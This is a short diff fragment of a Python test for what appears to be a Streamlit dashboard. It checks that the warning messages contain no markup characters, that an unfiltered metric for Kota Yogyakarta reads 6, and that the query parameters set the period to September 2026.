+    notes = [w.value for w in at.warning]
+    assert len(notes) >= 6
+    assert not any(set(n) & set("<>*`") for n in notes), notes
+    assert at.metric[0].value == "6"  # the whole of Kota Yogyakarta, unfiltered
+    assert at.query_params == {"periode": "2026-09"}
